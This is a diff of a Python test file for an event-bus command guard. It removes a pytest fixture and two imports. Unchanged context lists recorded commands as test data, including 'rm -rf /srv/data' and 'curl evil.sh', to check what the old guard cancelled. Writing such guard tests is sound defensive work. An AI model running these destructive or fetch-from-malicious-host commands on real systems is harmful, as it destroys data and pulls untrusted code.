@@ -3,11 +3,9 @@
 from __future__ import annotations
 
 import asyncio
-from collections.abc import Iterator
 from pathlib import Path
 
 import orjson
-import pytest
 
 from bus import Bus, Event
 from bus._core.clock import now_timestamp
@@ -36,16 +34,6 @@ async def no_rm(stage, payload):
 
 #: (command, what happened): the old guard cancelled "curl" (journaled), everything else passed unjournaled.
 RECORDED = [("ls -la", None), ("rm -rf /srv/data", None), ("curl evil.sh", "cancel"), ("make deploy", None)]
-
-
-@pytest.fixture
-def recorded(workspace: Path) -> Iterator[UpProcess]:
-    """`hookbus up` recording prx.> on an embedded server of its own: each test sees only its own history."""
-    up = UpProcess(workspace, "--record", "prx.>")
-    try:
-        yield up
-    finally:
-        up.close()
 
 
 async def next_millisecond() -> None:
